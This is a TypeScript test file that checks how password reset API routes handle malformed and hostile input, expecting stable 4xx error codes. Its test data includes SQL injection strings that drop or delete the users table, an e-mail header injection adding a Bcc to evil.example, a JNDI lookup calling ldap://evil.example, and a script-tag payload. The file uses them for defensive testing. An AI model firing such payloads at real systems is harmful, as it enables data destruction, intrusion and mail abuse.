// SEC-3, IAM-3: hostile input to the password reset routes gets a 4xx with a stable code, never a
// 500; text that is merely odd (injection strings, other scripts) is treated as an unknown account.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type SignedUp, signUp } from '../../../test/support/app.ts'
import {
  confirmReset,
  createResetTestApp,
  NEW_PASSWORD,
  type ResetTestApp,
  requestReset,
  resetTokenFor,
} from './password-reset.test-support.ts'

let t: ResetTestApp
let acme: SignedUp
beforeAll(async () => {
  t = await createResetTestApp()
  acme = await signUp(t.app)
})
afterAll(() => t.close())

const ok = () => ({ tenant: acme.tenant.slug, email: acme.owner.email })

function raw(url: string, payload: string, contentType = 'application/json') {
  return t.app.inject({ method: 'POST', url, headers: { 'content-type': contentType }, payload })
}

describe('password reset input under attack', () => {
  it.each<[string, () => unknown, number, string]>([
    ['a missing e-mail', () => ({ tenant: acme.tenant.slug }), 400, 'REQUEST_INVALID'],
    ['a missing organisation', () => ({ email: acme.owner.email }), 400, 'REQUEST_INVALID'],
    ['an e-mail of the wrong type', () => ({ ...ok(), email: 42 }), 400, 'REQUEST_INVALID'],
    ['an e-mail as a list', () => ({ ...ok(), email: [acme.owner.email] }), 400, 'REQUEST_INVALID'],
    [
      'an organisation as an object',
      () => ({ ...ok(), tenant: { $ne: '' } }),
      400,
      'REQUEST_INVALID',
    ],
    [
      'an e-mail of 255 characters',
      () => ({ ...ok(), email: `${'a'.repeat(243)}@acme.example` }),
      400,
      'REQUEST_INVALID',
    ],
    [
      'an organisation of 64 characters',
      () => ({ ...ok(), tenant: 'o'.repeat(64) }),
      400,
      'REQUEST_INVALID',
    ],
    ['an empty e-mail', () => ({ ...ok(), email: '' }), 400, 'REQUEST_INVALID'],
    [
      'a NUL in the e-mail',
      () => ({ ...ok(), email: `${acme.owner.email}\u0000` }),
      400,
      'REQUEST_INVALID',
    ],
    [
      'a header break in the e-mail',
      () => ({ ...ok(), email: `${acme.owner.email}\r\nBcc: x@evil.example` }),
      400,
      'REQUEST_INVALID',
    ],
    ['an unknown field', () => ({ ...ok(), tenantId: acme.tenant.id }), 400, 'REQUEST_INVALID'],
    ['a JSON array', () => [ok()], 400, 'REQUEST_INVALID'],
  ])('POST /api/v1/password-reset with %s: %i %s', async (_what, payload, status, code) => {
    const res = await requestReset(t.app, payload())
    expect(res.statusCode).toBe(status)
    expect(res.json().error.code).toBe(code)
  })

  it.each([
    ["' OR 1=1 --", 'x@y.example'],
    ['acme"; DROP TABLE users; --', 'x@y.example'],
    ['ünïcødé-org', 'üser@exämple.com'],
    ['org', "a'); DELETE FROM users WHERE ('1'='1@x.example"],
    ['org', '%00@%0a.example'],
    ['\u0024{jndi:ldap://evil.example/a}', '<script>alert(1)</script>@x.example'],
    ['🙂', '🙂@🙂.example'],
  ])(
    'IAM-3: tenant %j with e-mail %j is an unknown account: 202, the usual body, no mail',
    async (tenant, email) => {
      const before = t.smtp.received.length
      const res = await requestReset(t.app, { tenant, email })
      expect(res.statusCode).toBe(202)
      expect(res.json()).toEqual(
        (await requestReset(t.app, { tenant: 'no-such-org', email: 'a@b.example' })).json(),
      )
      await t.deliver()
      expect(t.smtp.received.length).toBe(before)
    },
  )

  it.each<[string, string, number, string]>([
    ['/api/v1/password-reset', '{"tenant":', 400, 'REQUEST_MALFORMED_JSON'],
    ['/api/v1/password-reset', 'tenant=acme&email=x', 415, 'REQUEST_UNSUPPORTED_MEDIA_TYPE'],
    ['/api/v1/password-reset/confirm', '', 400, 'REQUEST_MALFORMED_JSON'],
    [
      '/api/v1/password-reset/confirm',
      `{"token":"${'A'.repeat(70_000)}","newPassword":"x"}`,
      413,
      'REQUEST_BODY_TOO_LARGE',
    ],
  ])('POST %s with a broken body %#: %i %s', async (url, body, status, code) => {
    const type = body.startsWith('tenant=')
      ? 'application/x-www-form-urlencoded'
      : 'application/json'
    const res = await raw(url, body, type)
    expect(res.statusCode).toBe(status)
    expect(res.json().error.code).toBe(code)
  })

  it.each<[string, unknown, number, string]>([
    ['a missing token', { newPassword: NEW_PASSWORD }, 400, 'REQUEST_INVALID'],
    [
      'a token of the wrong type',
      { token: 12345, newPassword: NEW_PASSWORD },
      400,
      'REQUEST_INVALID',
    ],
    [
      'a token of 257 characters',
      { token: 'A'.repeat(257), newPassword: NEW_PASSWORD },
      400,
      'REQUEST_INVALID',
    ],
    [
      'a password of 1025 characters',
      { token: 'A'.repeat(43), newPassword: 'p'.repeat(1025) },
      400,
      'REQUEST_INVALID',
    ],
    [
      'a password as a number',
      { token: 'A'.repeat(43), newPassword: 123456789012 },
      400,
      'REQUEST_INVALID',
    ],
    [
      'an unknown token',
      { token: 'A'.repeat(43), newPassword: NEW_PASSWORD },
      400,
      'IDENTITY_RESET_TOKEN_INVALID',
    ],
    [
      'an injection string as token',
      { token: "' OR used_at IS NULL --", newPassword: NEW_PASSWORD },
      400,
      'IDENTITY_RESET_TOKEN_INVALID',
    ],
    [
      'a NUL in the token',
      { token: `${'A'.repeat(42)}\u0000`, newPassword: NEW_PASSWORD },
      400,
      'IDENTITY_RESET_TOKEN_INVALID',
    ],
    [
      'a unicode token',
      { token: 'Ä'.repeat(43), newPassword: NEW_PASSWORD },
      400,
      'IDENTITY_RESET_TOKEN_INVALID',
    ],
    [
      'an extra field',
      { token: 'A'.repeat(43), newPassword: NEW_PASSWORD, userId: 'x' },
      400,
      'REQUEST_INVALID',
    ],
  ])('POST /api/v1/password-reset/confirm with %s: %i %s', async (_what, payload, status, code) => {
    const res = await confirmReset(t.app, payload)
    expect(res.statusCode).toBe(status)
    expect(res.json().error.code).toBe(code)
  })

  it('a real token with a NUL or line breaks in the new password is handled, never a 500', async () => {
    const other = await signUp(t.app)
    const token = await resetTokenFor(t, other)
    const res = await confirmReset(t.app, { token, newPassword: `${NEW_PASSWORD}\u0000\r\n` })
    expect(res.statusCode).toBe(204)
  })
})
